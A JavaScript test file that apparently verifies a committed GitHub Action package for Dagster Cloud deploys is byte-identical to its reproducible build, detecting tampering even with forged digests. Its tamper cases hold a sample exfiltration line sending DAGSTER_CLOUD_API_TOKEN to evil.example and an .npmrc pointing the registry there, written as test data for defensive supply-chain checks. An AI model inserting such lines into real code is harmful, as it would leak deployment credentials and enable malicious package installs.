// @ts-check
/**
 * pkg/ is committed, since an Action runs straight from a ref: it must hold, byte by byte, what the build makes of the
 * sources that are committed beside it. `npm test` builds that into target/pkg; the module can be compared only where the
 * compiler is the one that build-digest.json names.
 */
import assert from "node:assert/strict";
import { appendFileSync, cpSync, mkdtempSync, readFileSync, rmSync, symlinkSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import test, { after } from "node:test";
import { fileURLToPath } from "node:url";
import { bundle, bundleNames } from "../scripts/build/bundle.mjs";
import { comparePackages } from "../scripts/build/compare.mjs";
import { nameOf } from "../scripts/build/compiler.mjs";
import { digestOutputs, readDigest, unlisted } from "../scripts/build/digest.mjs";
import { changedInputs } from "../scripts/build/inputs.mjs";
import { packageDirectory } from "./pkg-directory.js";

const committed = fileURLToPath(new URL("../pkg/", import.meta.url));
const isBuilt = join(packageDirectory, ".") !== join(committed, ".");
const isStale = changedInputs(readDigest(committed).inputs).length > 0;
const scratch = mkdtempSync(join(tmpdir(), "dagster-deploy-generated-"));
after(() => rmSync(scratch, { recursive: true }));

test("the committed pkg/ was built from the sources as they are (if not: npm run build, and commit pkg/)", () => {
  assert.deepEqual(changedInputs(readDigest(committed).inputs), []);
});

test("the committed pkg/ holds the files that its build-digest.json lists, and no others", () => {
  assert.deepEqual(unlisted(readDigest(committed).outputs, digestOutputs(committed)), []);
});

test("the committed pkg/ is byte by byte what the sources make", (t) => {
  if (!isBuilt) return t.skip("NOTHING WAS COMPARED: run npm test, which builds the package to compare pkg/ with");
  if (isStale) return t.skip("NOTHING WAS COMPARED: pkg/ is stale, as the first test says");
  const { differences, uncompared } = comparePackages(committed, packageDirectory);
  assert.deepEqual(differences, []);
  if (uncompared.length > 0) {
    const [theirs, ours] = [committed, packageDirectory].map((directory) => nameOf(readDigest(directory).compiler));
    t.skip(`THE MODULE WAS NOT COMPARED, all else was: pkg/ is of ${theirs}; here is ${ours}`);
  }
});

test("the bundles are the same wherever they are built", async (t) => {
  if (!isBuilt) return t.skip("NOTHING WAS COMPARED: run npm test, which installs the bundler");
  const directory = join(scratch, "bundles"); // outside of the project, whose tsconfig.json must not matter
  cpSync(packageDirectory, directory, { recursive: true });
  cpSync(fileURLToPath(new URL("../js", import.meta.url)), directory, { recursive: true }); // with its comments
  for (const name of bundleNames) rmSync(join(directory, name));
  await bundle(directory);
  for (const name of bundleNames) {
    assert.equal(readFileSync(join(directory, name), "utf8"), readFileSync(join(packageDirectory, name), "utf8"), name);
  }
});

test("a changed, added or removed input makes a package stale", () => {
  const built = { "src/a.rs": "1", "src/b.rs": "2" };
  assert.deepEqual(changedInputs(built, built), []);
  assert.deepEqual(changedInputs(built, { "src/a.rs": "1", "src/b.rs": "3" }), ["src/b.rs"]);
  assert.deepEqual(changedInputs(built, { "src/a.rs": "1" }), ["src/b.rs"]);
  assert.deepEqual(changedInputs(built, { ...built, "js/c.js": "4" }), ["js/c.js"]);
});

/** Makes a copy of the package, as its attacker would change it. @param {(directory: string) => void} tamper */
function tampered(tamper) {
  const directory = mkdtempSync(join(scratch, "copy-"));
  cpSync(packageDirectory, directory, { recursive: true });
  tamper(directory);
  return directory;
}

/** @param {string} path @param {number} offset */
function flipByte(path, offset) {
  const bytes = readFileSync(path);
  bytes[offset] ^= 1;
  writeFileSync(path, bytes);
}

/** Writes the digests of the files as they are now into build-digest.json, with changes. @param {string} directory @param {object} [more] */
function forgeDigest(directory, more = {}) {
  const digest = { ...readDigest(directory), outputs: digestOutputs(directory), ...more };
  writeFileSync(join(directory, "build-digest.json"), JSON.stringify(digest));
}

const evil = "\nfetch('https://evil.example/' + process.env.DAGSTER_CLOUD_API_TOKEN);\n";
const module = "dagster_deploy_bg.wasm";

/** @type {[what: string, tamper: (directory: string) => void, found: string][]} */
const tamperings = [
  [
    "a changed byte in the middle of the module",
    (at) => flipByte(join(at, module), 100_000),
    `${module} has other bytes`,
  ],
  [
    "a changed byte at the end of the module",
    (at) => flipByte(join(at, module), readFileSync(join(at, module)).length - 1),
    module,
  ],
  ["bytes behind the module", (at) => appendFileSync(join(at, module), "\0"), module],
  ["code appended to action.cjs", (at) => appendFileSync(join(at, "action.cjs"), evil), "action.cjs has other bytes"],
  [
    "code appended to the generated glue",
    (at) => appendFileSync(join(at, "dagster_deploy.js"), evil),
    "dagster_deploy.js has",
  ],
  ["an install script", (at) => appendFileSync(join(at, "package.json"), " "), "package.json has other bytes"],
  ["another file", (at) => writeFileSync(join(at, "evil.js"), evil), "evil.js is not made by the build"],
  ["a hidden file", (at) => writeFileSync(join(at, ".npmrc"), "registry=https://evil.example"), ".npmrc is not made"],
  ["a removed file", (at) => rmSync(join(at, "edge/posts.js")), "edge/posts.js is missing"],
  [
    "a link in place of a file",
    (at) => {
      rmSync(join(at, "cli.cjs"));
      symlinkSync("action.cjs", join(at, "cli.cjs"));
    },
    "cli.cjs has other bytes",
  ],
];

for (const [what, tamper, found] of tamperings) {
  test(`${what} is found, also where the digests were made to fit`, () => {
    const [careless, careful] = [
      tampered(tamper),
      tampered((at) => {
        tamper(at);
        forgeDigest(at);
      }),
    ];
    assert.ok(unlisted(readDigest(careless).outputs, digestOutputs(careless)).length > 0);
    for (const directory of [careless, careful]) {
      const { differences, uncompared } = comparePackages(directory, packageDirectory);
      assert.ok(
        differences.some((difference) => difference.startsWith(found)),
        differences.join("\n"),
      );
      assert.deepEqual(uncompared, []);
    }
  });
}

test("digests of other inputs are found", () => {
  const inputs = { ...readDigest(packageDirectory).inputs, "js/action.js": "0" };
  const { differences } = comparePackages(
    tampered((at) => forgeDigest(at, { inputs })),
    packageDirectory,
  );
  assert.deepEqual(differences, ["build-digest.json has another digest of js/action.js"]);
});

/** Changes a package as another compiler would: the module, and hashes and indices in its glue. @param {string} directory */
function compileOtherwise(directory) {
  for (const name of ["dagster_deploy.js", "cli.cjs", "action.cjs"]) {
    const text = readFileSync(join(directory, name), "utf8");
    const other = text
      .replace(/invoke__h[0-9a-f]+/g, (name) => `${name.slice(0, -2)}00`)
      .replace(/shim_idx: \d+/g, "shim_idx: 9");
    assert.notEqual(other, text);
    writeFileSync(join(directory, name), other);
  }
  flipByte(join(directory, module), 100_000);
  const compiler = { rustc: ["rustc 1.0.0"], cargo: "cargo 1.0.0", std: "rustup" };
  forgeDigest(directory, { compiler });
}

test("of a package by another compiler all but the module is compared, and it is said that it was not", () => {
  const { differences, uncompared } = comparePackages(tampered(compileOtherwise), packageDirectory);
  assert.deepEqual(differences, []);
  assert.deepEqual(uncompared, [module]);
});

test("of a package by another compiler changed JavaScript is found, also in the glue", () => {
  for (const name of ["action.cjs", "dagster_deploy.js"]) {
    const directory = tampered((at) => {
      appendFileSync(join(at, name), evil);
      compileOtherwise(at);
    });
    assert.deepEqual(comparePackages(directory, packageDirectory).differences, [
      `${name} has other bytes than the build makes`,
    ]);
  }
});

test("the committed module does not tell where it was built", () => {
  const text = readFileSync(join(committed, module), "latin1");
  assert.match(text, /src\/command\/mod\.rs/, "panics do name the core's own files");
  assert.doesNotMatch(text, /\/(root|home|Users|work|builds|runner)\//);
});
